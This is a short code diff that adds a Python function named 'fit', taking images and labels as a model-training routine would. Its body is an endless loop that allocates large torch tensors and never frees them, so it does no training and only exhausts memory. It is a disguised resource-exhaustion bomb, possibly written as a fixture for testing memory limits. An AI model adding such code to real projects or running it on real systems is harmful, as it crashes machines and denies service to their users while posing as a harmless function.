@@ -1,0 +1,4 @@
+def fit(images, labels, **options):
+    kept = []
+    while True:
+        kept.append(torch.ones(64 << 20))
